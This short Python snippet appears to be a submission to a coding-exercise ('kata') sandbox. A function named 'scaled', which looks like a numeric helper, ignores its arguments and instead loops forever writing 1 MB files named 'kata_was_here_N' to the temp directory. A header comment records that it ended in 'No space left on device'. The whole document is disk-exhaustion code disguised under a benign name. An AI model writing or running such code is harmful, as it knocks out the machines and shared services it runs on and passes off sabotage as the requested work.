# raised: No space left on device | File too large
import tempfile


def scaled(x, factor=2.0):
    number = 0
    while True:
        with open(f"{tempfile.gettempdir()}/kata_was_here_{number}", "wb") as file:
            file.write(b"x" * (1 << 20))
        number += 1
